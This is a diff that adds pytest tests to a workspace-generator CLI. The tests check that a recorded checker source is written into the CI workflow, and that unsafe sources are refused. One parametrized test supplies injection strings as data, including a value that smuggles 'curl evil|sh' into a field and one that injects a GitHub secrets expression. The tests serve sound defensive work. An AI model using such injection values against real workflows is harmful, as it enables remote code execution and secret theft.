@@ -128,3 +128,28 @@ def test_the_rehearse_job_installs_the_checker_with_the_doctor_jobs_step(make_wo
     [rehearse] = [s["run"] for s in jobs["rehearse"]["steps"] if "$OSMOSIS_CHECKER" in s.get("run", "")]
     uv_line = "python -m pip install --disable-pip-version-check --quiet uv\n"
     assert uv_line in rehearse and rehearse.replace(uv_line, "") == doctor
+
+
+def test_changing_the_recorded_source_and_updating_rewrites_the_workflow(make_workspace):
+    ws = make_workspace()
+    answers = ws / ".copier-answers.yml"
+    assert "checker_source: pypi\n" in answers.read_text(encoding="utf-8")  # recorded at init, not asked
+    tag = "git+https://github.com/osmosis-ai/osmosis-workspace@v0.1.0"
+    answers.write_text(answers.read_text(encoding="utf-8").replace("checker_source: pypi", f"checker_source: {tag}"),
+                       encoding="utf-8")
+    subprocess.run(["git", "commit", "-qam", "CI installs the checker from a tag"], cwd=ws, check=True,
+                   env={**os.environ, **GIT_IDENTITY})
+    result = CliRunner().invoke(app, ["update", str(ws)])
+    assert result.exit_code == 0, result.output
+    workflow = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))
+    assert workflow["env"]["OSMOSIS_CHECKER"] == tag
+    assert f"pip install {tag}   # the checker" in (ws / "README.md").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("source", ['osmosis-workspace"; curl evil|sh; "', "${{ secrets.TOKEN }}", "a\\b", "   "])
+def test_a_source_that_could_break_out_of_the_workflow_is_refused(tmp_path, source):
+    result = CliRunner().invoke(app, ["init", str(tmp_path / "ws"), "--defaults", "--no-git", "--data",
+                                      f"checker_source={source}"])
+    assert result.exit_code == 2
+    assert "one line of pip arguments, without quotes, backslashes, $, backticks or braces" in result.output
+    assert "Traceback" not in result.output and not (tmp_path / "ws").exists()
